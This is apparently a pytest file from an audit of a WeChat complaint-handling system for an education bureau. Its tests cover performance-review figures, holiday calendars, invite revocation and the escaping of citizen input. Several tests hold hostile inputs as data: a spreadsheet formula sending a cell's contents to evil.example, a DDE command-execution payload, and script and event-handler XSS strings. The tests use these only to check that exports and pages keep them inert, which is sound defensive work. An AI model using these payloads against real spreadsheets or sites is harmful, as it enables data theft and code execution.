"""The third audit (issue 8's families again): the figures that feed each unit's performance review, working days
the calendar package does not know, and the workbench as each role. Attacked through the sandbox (WeChat's
encrypted XML over real HTTP), the workbench over real HTTP and real SQLite files. Each test failed before its fix."""
from __future__ import annotations

import csv
import io

import pytest

from storage import tickets
from tests.dialog import FEES, LEADER, NUMBER, drain, file_ticket, talk
from tests.test_citizen_dialogs import PARENT, ticket

FEES_TEXT = "学校要求每个学生交300元资料费，还不给收据，我要投诉"


# -- exports: a citizen's words are never a formula ---------------------------------------------------------------
INJECTED = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")学校要求每个学生交300元资料费，还不给收据'


async def test_exports_never_turn_typed_text_into_a_formula(dialog):
    """A complaint starting with = and an answer starting with @ or + stay text in the CSV and the XLSX."""
    from openpyxl import load_workbook

    from tests.test_web import browser, sign_in
    d = dialog
    number = await file_ticket(d, PARENT, INJECTED, scene="school:jn-syxx")
    await talk(d, FEES, f"办结 {number} +已责令学校退费@财务处", expect="已办结")
    async with browser(d) as s:
        await sign_in(d, s, LEADER)
        async with s.get("/w/export/tickets.csv", params={"state": "all"}) as resp:
            rows = list(csv.reader(io.StringIO((await resp.read()).decode("utf-8-sig"))))
        async with s.get("/w/export/tickets.xlsx", params={"state": "all"}) as resp:
            sheet = load_workbook(io.BytesIO(await resp.read())).active
    head = rows[0]
    row = next(r for r in rows if r[0] == number)
    assert row[head.index("内容摘要")].startswith("'=HYPERLINK")
    assert row[head.index("办理结果")].startswith("'+已责令")
    cells = next(r for r in sheet.iter_rows() if r[0].value == number)
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
    assert any(str(c.value).startswith("=HYPERLINK") for c in cells)  # the words kept as typed, as text


def test_the_review_workbook_keeps_a_comment_as_text(tmp_path):
    from openpyxl import load_workbook

    from bot import review_xlsx
    from handlers import review
    from tests.dialog import TZ
    units = [{"code": "s1", "name": "=1+1学校", "kind": "school", "parent": None}]
    r = review.assemble(units, {}, {}, {}, {}, review.Weights(), "2026-11", 0, 1,
                        [{"unit_code": "s1", "author": "局长", "public": False, "text": "x"}])
    r.units[0].comments[0]["author"] = "=cmd|' /C calc'!A0"
    path = review_xlsx.write(r, tmp_path / "r.xlsx", 0, TZ)
    for ws in load_workbook(path):
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)


# -- 群众评议: the unit's own staff do not evaluate it -------------------------------------------------------------
async def answer_survey(d, openid: str, scene: str = "survey:school-2026:jn-syxx") -> str:
    from tests.dialog import send
    reply = await send(d, openid, type="scan", scene=scene)
    for _ in range(12):
        if "评议完成" in reply or "第" not in reply:
            return reply
        reply = await talk(d, openid, "0" if "没有请回复 0" in reply else "5" if "1–5" in reply else "1")
    return reply


async def test_staff_cannot_evaluate_their_own_unit(dialog):
    """The school's handler and supervisor, the district bureau above it and a leader are refused; a parent is
    counted. A parent who answered and was later bound as the school's staff is left out of the figures."""
    from bot.app import DB, DISPATCHER
    from handlers.survey_results import survey_results
    from storage import staff
    from tests.dialog import DISTRICT_HEAD, SCHOOL, SCHOOL_HEAD
    d = dialog
    for insider in (SCHOOL, SCHOOL_HEAD, DISTRICT_HEAD, LEADER):
        reply = await answer_survey(d, insider)
        assert "不能参加" in reply and "评议完成" not in reply, (insider, reply)
    assert "评议完成" in await answer_survey(d, "o_parent_a")
    assert "评议完成" in await answer_survey(d, "o_parent_b")
    # o_parent_b is then bound as the school's handler (an invite redeemed in WeChat)
    code = await d.db(staff.create_invite, "jn-syxx", "handler", "新老师", d.clock.now(), 86400)
    await talk(d, "o_parent_b", f"绑定 {code}", expect="绑定")
    survey = d.app[DISPATCHER].campaign.p.surveys["school-2026"]
    results = await d.app[DB].read(survey_results, survey, d.app[DISPATCHER].campaign.p.surveys, 1)
    assert results["jn-syxx"].n == 1


# -- a late ticket cannot be shed: bounced, transferred or withdrawn, it stays late for the unit that let it lapse --
def _review_rates(d, period: str = "2026-11"):
    from bot.app import DB
    from handlers import digest, public, rates, review
    from tests.dialog import TZ
    now = d.clock.now()

    def read(conn):
        start, end = review.bounds(period, TZ)
        return {
            "review": {u.code: u.figures.rates for u in review.build(conn, period, TZ, review.Weights(),
                                                                        now=now).units},
            "rates by day": rates.for_period(conn, start, end, None, now),
            "rates by rows": rates.compute(tickets.for_period(conn, start, end), start, end, now,
                                           tickets.ratings_in(conn, start, end),
                                           misses=tickets.misses_in(conn, start, end),
                                           cases=tickets.cases_in(conn, start, end)),
            "digest": {u.code: u.now for u in digest.build(conn, "2026-W49", now, TZ).units},
            "public": {c: w["month"].rates for c, w in public.snapshot(conn, now, TZ).windows.items()
                       if "month" in w},
        }
    return d.app[DB].read(read)


async def test_a_late_ticket_bounced_away_still_counts_against_the_unit(dialog):
    """The fees office lets a complaint lapse (never signed, past its deadline), then bounces it: its 响应率 and
    解决率 must not improve. The duty office that takes it has its own window to pass it on, and is not charged
    with the fees office's lapse."""
    from tests.dialog import DUTY, at
    d = dialog
    d.advance(at("2026-12-01 09:00") - d.clock.now())  # a Tuesday, so the digest's week 49 holds it all
    number = await file_ticket(d, PARENT, FEES_TEXT, scene="school:jn-syxx")
    assert (await ticket(d, number))["unit_code"] == "jyj-sfc"
    d.advance(at("2026-12-04 10:00") - d.clock.now())  # 签收 window over (1 working day); 办结 not due yet
    before = await _review_rates(d, "2026-12")
    for name, per_unit in before.items():
        fees = per_unit["jyj-sfc"]
        assert (fees.response_due, fees.accepted_in_time) == (1, 0), (name, fees)
    await talk(d, FEES, f"退回 {number} 不属于本单位职责", expect="退回")
    d.advance(3600)
    await talk(d, DUTY, f"转派 {number} 江南区教育局 请区局核实", expect="已将")
    d.advance(86400)  # the public pages count whole days, up to last midnight
    after = await _review_rates(d, "2026-12")
    for name, per_unit in after.items():
        fees, duty = per_unit.get("jyj-sfc"), per_unit.get("jyj-bgs")
        assert fees is not None and (fees.response_due, fees.accepted_in_time) == (1, 0), (name, fees)
        assert fees.response == 0, (name, fees)
        assert duty is None or (duty.response_due, duty.open_overdue) == (0, 0), (name, duty)
    from bot.app import DB
    from handlers import review
    from tests.dialog import TZ
    rev = await d.app[DB].read(review.build, "2026-12", TZ, review.Weights(), None, 30, d.clock.now())
    assert rev.unit("jyj-sfc").figures.rates.left_late == 1  # shown in the report and the XLSX, with why


async def test_an_overdue_ticket_transferred_or_withdrawn_still_counts_as_overdue(dialog):
    """Past its deadline, a district ticket is transferred by the district's own supervisor, and another is
    withdrawn by its citizen: the district keeps both as overdue (解决率, the review's 超期)."""
    from tests.dialog import DISTRICT, DISTRICT_HEAD, at
    d = dialog
    d.advance(at("2026-12-01 09:00") - d.clock.now())
    ethics = "江南区实验小学的王老师上课体罚学生，还辱骂孩子"
    moved = await file_ticket(d, PARENT, ethics, scene="school:jn-syxx")
    gone = await file_ticket(d, "o_parent_2", ethics, scene="school:jn-syxx")
    assert {(await ticket(d, n))["unit_code"] for n in (moved, gone)} == {"jn-jyj"}
    await talk(d, DISTRICT, f"签收 {moved}")
    await talk(d, DISTRICT, f"签收 {gone}")
    d.advance(at("2026-12-28 10:00") - d.clock.now())  # long past the deadline
    await talk(d, DISTRICT_HEAD, f"转派 {moved} 师德师风建设处 涉及师德", expect="已将")
    await talk(d, "o_parent_2", f"撤回 {gone}")
    await talk(d, "o_parent_2", f"确认撤回 {gone}", expect="撤回")
    for name, per_unit in (await _review_rates(d, "2026-12")).items():
        if name in ("digest", "public"):
            continue  # the digest's week and the public 30 days hold the December moves; checked by the review
        district = per_unit.get("jn-jyj")
        assert district is not None and district.open_overdue == 2 and district.resolution == 0, (name, district)


# -- working days in a year chinese-calendar does not know (2027, as on 2026-11-29) --------------------------------
def _ts(text: str) -> float:
    from tests.dialog import at
    return at(text)


def _day(ts: float) -> str:
    import datetime as dt

    from tests.dialog import TZ
    return dt.datetime.fromtimestamp(ts, TZ).date().isoformat()


def test_an_unknown_year_never_takes_new_year_as_a_working_day_and_says_so():
    from handlers.workdays import WorkCalendar, package_knows
    assert not package_knows(2027), "the installed chinese-calendar knows 2027: pick a later year for this test"
    cal = WorkCalendar()
    # Thursday 31 December 2026 + 1 working day: Friday 1 January 2027 is 元旦, so Monday 4 January
    assert _day(cal.due(_ts("2026-12-31 10:00"), 1)) == "2027-01-04"
    assert not cal.is_workday(__import__("datetime").date(2027, 10, 1))
    warning = cal.warning(_ts("2026-11-29 10:00"))
    assert warning and "2027" in warning and "holidays" in warning
    assert cal.warning(_ts("2026-06-01 10:00")) is None  # far from the year's end: nothing missing yet


def test_the_configured_holidays_decide_an_unknown_year(make_config):
    """The bureau types the State Council's announcement into [deadlines]: 春节 off, a 调休 Sunday worked."""
    config = make_config(deadlines={"holidays": ["2027-01-01", "2027-02-06..2027-02-12"],
                                    "workdays": ["2027-02-14"]})
    cal = config.calendar()
    assert cal.warning(_ts("2026-11-29 10:00")) is None
    # Friday 5 February + 2 working days: the week off, then the make-up Sunday and Monday 15th
    assert _day(cal.due(_ts("2027-02-05 10:00"), 2)) == "2027-02-15"
    assert _day(cal.due(_ts("2027-02-05 10:00"), 1)) == "2027-02-14"


@pytest.mark.parametrize("deadlines, key", [
    ({"holidays": ["2027-02-30"]}, "deadlines.holidays"),
    ({"workdays": ["2027-02-14"], "holidays": ["2027-02-10..2027-02-16"]}, "deadlines.workdays"),
])
def test_bad_holiday_lists_are_refused_with_the_key(make_config, deadlines, key):
    from bot.config import ConfigError
    with pytest.raises(ConfigError, match=key):
        make_config(deadlines=deadlines)


async def test_a_ticket_across_new_year_gets_a_true_deadline_and_admins_are_told(dialog, caplog):
    """Through WeChat on 30 December 2026: the webhook answers with a deadline that skips 元旦; /healthz and a
    leader's workbench carry the warning; a handler's workbench does not."""
    from tests.dialog import SCHOOL, at
    from tests.test_web import browser, sign_in
    d = dialog
    d.advance(at("2026-12-30 10:00") - d.clock.now())
    number = await file_ticket(d, PARENT, FEES_TEXT, scene="school:jn-syxx")
    t = await ticket(d, number)
    assert _day(t["accept_due_at"]) == "2026-12-31"
    # 7 working days from Wednesday 30 December, 1 January off: 31, 4, 5, 6, 7, 8, 11 January
    assert _day(t["due_at"]) == "2027-01-11", _day(t["due_at"])
    async with d.session.get("/healthz") as resp:
        body = await resp.json()
    assert resp.status == 200 and "2027" in body["calendar"] and any("2027" in a for a in body["alerts"])
    async with browser(d) as s:
        await sign_in(d, s, LEADER)
        async with s.get("/w/") as resp:
            assert "2027年的法定节假日" in await resp.text()
    async with browser(d) as s:
        await sign_in(d, s, SCHOOL)
        async with s.get("/w/") as resp:
            assert "法定节假日" not in await resp.text()


# -- small samples: one 满意 is not a 100-point satisfaction ------------------------------------------------------
def test_a_rate_resting_on_one_rating_is_not_scored():
    """Two schools: one with a single 满意, one with 20 ratings of which 18 satisfied. Before, the first scored 100
    on 满意率 and ranked first; with [review] min_cases it is 样本不足 and not ranked on a single rating."""
    from handlers import review
    from handlers.rates import Rates, percent_of
    units = [{"code": "a", "name": "甲校", "kind": "school"}, {"code": "b", "name": "乙校", "kind": "school"}]
    rates = {"a": Rates(rated=1, satisfied=1),
             "b": Rates(rated=20, satisfied=18, dispatched=20, response_due=20, accepted_in_time=19, resolved=20,
                        resolved_in_time=18)}
    r = review.assemble(units, rates, {}, {}, {}, review.Weights(), "2026-11", 0, 1, min_cases=5)
    a, b = r.unit("a"), r.unit("b")
    assert a.scores["satisfaction"] is None and a.score is None and a.rank is None
    assert b.rank == 1 and b.scores["satisfaction"] == 90.0
    assert percent_of(a.figures.rates, "satisfaction") == "100%（1）"


async def test_the_ranking_pages_show_each_rate_with_its_count(dialog):
    from tests.test_citizen_dialogs import resolved
    from tests.test_web import browser, sign_in
    from tests.dialog import at
    d = dialog
    number = await resolved(d)
    await talk(d, PARENT, f"评价 {number} 1", expect="感谢")
    d.advance(at("2026-12-01 10:00") - d.clock.now())
    async with browser(d) as s:
        await sign_in(d, s, LEADER)
        async with s.get("/w/review", params={"period": "2026-11"}) as resp:
            page = await resp.text()
    assert resp.status == 200 and "100%（1）" in page and "样本不足" in page


async def test_signing_a_redo_does_not_make_the_first_signing_late(dialog):
    """The fees office signed in time and answered; the parent said 不满意; two days later the office signs the
    redo. Before, that overwrote the first 签收 time and the office's 响应率 fell to 0 %."""
    from tests.dialog import at
    from tests.test_citizen_dialogs import resolved
    d = dialog
    number = await resolved(d)  # 办结 at once signs it, in time
    await talk(d, PARENT, "3 还是没退钱", expect="重新办理")
    d.advance(2 * 86400)
    await talk(d, FEES, f"签收 {number}")
    d.advance(at("2026-12-01 10:00") - d.clock.now())
    for name, per_unit in (await _review_rates(d)).items():
        if name in ("digest", "public"):
            continue
        fees = per_unit["jyj-sfc"]
        assert (fees.response_due, fees.accepted_in_time) == (1, 1), (name, fees)


# -- invites: a code binds only while the person who made it may still invite -------------------------------------
async def test_an_invite_from_a_leader_since_removed_no_longer_binds(dialog):
    import re

    from storage import staff
    from tests.test_web import browser, csrf_of, sign_in
    d = dialog
    codes = []
    async with browser(d) as s:
        await sign_in(d, s, LEADER)
        for name in ("新局长助理", "新老师"):
            token = await csrf_of(s, "/w/staff")
            async with s.post("/w/staff", data={"_csrf": token, "do": "invite", "unit": "jn-syxx",
                                                "role": "leader" if name == "新局长助理" else "handler",
                                                "name": name}) as resp:
                codes.append(re.search(r'id="invite-code">([A-Z0-9]+)<', await resp.text()).group(1))
    await talk(d, "o_new_teacher", f"绑定 {codes[1]}", expect="绑定成功")  # while the leader still is one
    await d.db(staff.remove, LEADER, staff.CONSOLE, d.clock.now())  # the leader leaves (or is demoted): the outstanding code goes with them
    await talk(d, "o_new_admin", f"绑定 {codes[0]}", expect="已被撤销", absent="绑定成功")
    assert (await d.db(lambda db: db.execute("SELECT role FROM users WHERE openid = 'o_new_admin'").fetchone())) \
        in (None, ("citizen",), (None,))


# -- no ticket is closed without an answer ------------------------------------------------------------------------
async def test_a_ticket_is_not_closed_or_answered_with_nothing_said(dialog):
    """'办结 编号 。' closed the ticket (and unrated it counted as resolved in time); now neither WeChat nor the
    workbench accepts an answer that says nothing, and the ticket is left as it was."""
    from tests.test_web import act, browser, sign_in
    d = dialog
    number = await file_ticket(d, PARENT, FEES_TEXT, scene="school:jn-syxx")
    for empty in ("。", "1", "ok", "！！"):
        await talk(d, FEES, f"办结 {number} {empty}", expect="至少3个字", absent="已办结")
        await talk(d, FEES, f"回复 {number} {empty}", expect="至少3个字", absent="已将答复")
    async with browser(d) as s:
        await sign_in(d, s, FEES)
        resp = await act(s, number, "resolve", text="好")
        assert "至少3个字" in resp.page
    t = await ticket(d, number)
    assert t["state"] == "assigned" and t["resolved_at"] is None
    await talk(d, FEES, f"办结 {number} 已责令学校退还资料费", expect="已办结")


async def test_an_extension_cannot_be_asked_for_after_the_deadline(dialog):
    """Past the deadline, a 延期 approved by the unit's own supervisor moved the deadline on and erased the
    lateness from 解决率. Now it must be asked for within the time limit."""
    from tests.dialog import DISTRICT, DISTRICT_HEAD
    d = dialog
    number = await file_ticket(d, PARENT, "江南区实验小学的王老师上课体罚学生，还辱骂孩子", scene="school:jn-syxx")
    await talk(d, DISTRICT, f"签收 {number}")
    due = (await ticket(d, number))["due_at"]
    d.advance(due - d.clock.now() + 3600)
    await talk(d, DISTRICT, f"延期 {number} 5 需要调查取证", expect="不能再申请延期")
    await talk(d, DISTRICT_HEAD, f"同意延期 {number}", absent="已同意")
    t = await ticket(d, number)
    assert t["due_at"] == due and not t["extension"]


# -- a citizen's markup is text on every page ---------------------------------------------------------------------
XSS = ('学校要求每个学生交300元资料费，还不给收据，家长们都很有意见，我要投诉<script>alert(1)</script>'
       '学校食堂收费也不公开<img src=x onerror=alert(2)>')


async def test_a_citizens_markup_is_text_on_every_workbench_page(dialog):
    """A guard (found nothing): the inbox, the ticket, search, the dashboard, notices, audit and the digest page
    show the words escaped, never as markup."""
    from tests.test_web import browser, sign_in
    d = dialog
    number = await file_ticket(d, PARENT, XSS, scene="school:jn-syxx")
    await talk(d, FEES, f"回复 {number} 收到<b onmouseover=alert(3)>您的留言</b>", expect="已将答复")
    async with browser(d) as s:
        await sign_in(d, s, LEADER)
        for path in ("/w/", f"/w/t/{number}", "/w/?q=资料费&state=all", "/w/dashboard", "/w/notices", "/w/audit",
                     "/w/review?period=2026-11"):
            async with s.get(path) as resp:
                page = await resp.text()
            assert resp.status == 200, path
            for raw in ("<script>alert", "<img src=x", "<b onmouseover", "onerror=alert(2)>"):
                assert raw not in page, (path, raw)
        async with s.get(f"/w/t/{number}") as resp:
            assert "&lt;script&gt;" in await resp.text()


async def test_a_late_answer_stays_late_after_a_redo(dialog):
    """The fees office answers after its deadline; the parent says 不满意; the redo is done in time. Before, the
    redo's fresh deadline erased the late answer and the office's 解决率 read 100 %."""
    from tests.dialog import at
    d = dialog
    number = await file_ticket(d, PARENT, FEES_TEXT, scene="school:jn-syxx")
    due = (await ticket(d, number))["due_at"]
    d.advance(due - d.clock.now() + 86400)
    await talk(d, FEES, f"办结 {number} 已责令学校退还资料费", expect="已办结")
    await talk(d, PARENT, "3 还没退", expect="重新办理")
    await talk(d, FEES, f"办结 {number} 学校已全部退还资料费", expect="已办结")
    d.advance(at("2026-12-01 10:00") - d.clock.now())
    for name, per_unit in (await _review_rates(d)).items():
        if name in ("digest", "public"):
            continue
        fees = per_unit["jyj-sfc"]
        assert fees.resolution is not None and fees.resolution < 1, (name, fees)


# -- stale forms: an action on a ticket changed since the page was loaded is not taken blindly ---------------------
async def test_a_stale_or_repeated_workbench_form_is_not_acted_on(dialog):
    """The same 回复 sent twice (a double click, a reload) reaches the citizen once; a 办结 typed on a page loaded
    before the citizen's 不满意 does not close the redo unread."""
    import re

    from tests.dialog import heard
    from tests.test_web import browser, sign_in
    d = dialog
    number = await file_ticket(d, PARENT, FEES_TEXT, scene="school:jn-syxx")
    await talk(d, FEES, f"签收 {number}")
    await drain(d, PARENT)
    async with browser(d) as s:
        await sign_in(d, s, FEES)
        async with s.get(f"/w/t/{number}") as resp:
            page = await resp.text()
        token = re.search(r'name="_csrf" value="([^"]+)"', page).group(1)
        seen = re.search(r'name="v" value="(\d+)"', page).group(1)
        form = {"_csrf": token, "v": seen, "action": "reply", "text": "您好，已联系学校核实收费情况"}
        for _ in range(2):
            async with s.post(f"/w/t/{number}", data=form) as resp:
                last = await resp.text()
        assert "已有新的办理记录" in last and "已联系学校核实" in last  # the second: refused, its words shown back
        events = await d.db(tickets.events, (await ticket(d, number))["id"])
        assert [e["action"] for e in events].count("reply") == 1
        await heard(d, PARENT, expect="已联系学校核实")
        # a page loaded now, then the ticket moves on: 办结 elsewhere, and the parent is not satisfied
        async with s.get(f"/w/t/{number}") as resp:
            seen = re.search(r'name="v" value="(\d+)"', await resp.text()).group(1)
        await talk(d, FEES, f"办结 {number} 已责令学校退还资料费", expect="已办结")
        await talk(d, PARENT, "3 还没退", expect="重新办理")
        async with s.post(f"/w/t/{number}", data={"_csrf": token, "v": seen, "action": "resolve",
                                                   "text": "已责令学校退还资料费"}) as resp:
            assert "已有新的办理记录" in await resp.text()
    assert (await ticket(d, number))["state"] == "reopened"


async def test_the_start_log_names_the_years_without_holidays(aiohttp_client, make_config, caplog):
    import logging

    from bot.app import create_app
    from handlers.clock import FixedClock
    caplog.set_level(logging.WARNING, logger="bot.app")
    await aiohttp_client(create_app(make_config(), clock=FixedClock(_ts("2026-11-29 10:00"))))
    assert any(r.name == "bot.app" and "2027" in r.getMessage() and "holidays" in r.getMessage()
               for r in caplog.records)
    caplog.clear()
    await aiohttp_client(create_app(make_config(deadlines={"holidays": ["2027-01-01"]}),
                                    clock=FixedClock(_ts("2026-11-29 10:00"))))
    assert not any(r.name == "bot.app" and "calendar" in r.getMessage() for r in caplog.records)


# -- 表扬: one person's praise counts once per unit and period --------------------------------------------------------
async def test_one_persons_repeated_praise_counts_once(dialog):
    """A parent (or a teacher's relative) sends the same school three 表扬: its 表扬 in the review and the public
    服务标兵 board count one person once; another parent's praise counts."""
    from bot.app import DB
    from handlers import public, review
    from tests.dialog import TZ, at, send
    d = dialog
    for who, n in (("o_fan", 3), ("o_other", 1)):
        await send(d, who, type="scan", scene="school:jn-syxx")
        for i in range(n):
            await talk(d, who, f"感谢江南区实验小学的张老师耐心辅导孩子，第{i + 1}次表扬", expect="请核对")
            await talk(d, who, "1", expect="感谢您的表扬")
    d.advance(at("2026-12-01 10:00") - d.clock.now())
    now = d.clock.now()

    def read(conn):
        return (review.build(conn, "2026-11", TZ, review.Weights(), now=now).unit("jn-syxx").figures.praise,
                public.snapshot(conn, now, TZ).window("jn-syxx", "month").praise)
    assert await d.app[DB].read(read) == (2, 2)


# -- period boundaries are the bureau's midnights, not UTC's (a guard: found nothing) ---------------------------------
@pytest.mark.parametrize("when, month", [("2026-11-30 23:30", "2026-11"), ("2026-12-01 00:30", "2026-12")])
def test_a_ticket_near_midnight_counts_in_the_month_of_china_time(tmp_path, when, month):
    import sqlite_utils

    from handlers import rates, review
    from storage import directory, migrations
    from tests.dialog import TZ
    db = sqlite_utils.Database(tmp_path / "t.db")
    migrations.migrate(db)
    directory.upsert(db, [{"code": "s1", "name": "甲校", "kind": "school", "district": None, "parent": None}])
    created = _ts(when)
    tickets.create(db, openid="o_c", kind="complaint", category="fees", unit_code="s1", school_code="s1", text="x",
                   attachments=[], contact_phone=None, anonymous=False, routing={}, now=created,
                   due_at=created + 7 * 86400, tz=TZ, accept_due_at=created + 86400)
    for period in ("2026-11", "2026-12"):
        start, end = review.bounds(period, TZ)
        fast = rates.for_period(db, start, end).get("s1", rates.Rates())
        rows = rates.compute(tickets.for_period(db, start, end), start, end).get("s1", rates.Rates())
        assert fast.dispatched == rows.dispatched == (period == month), (period, fast, rows)
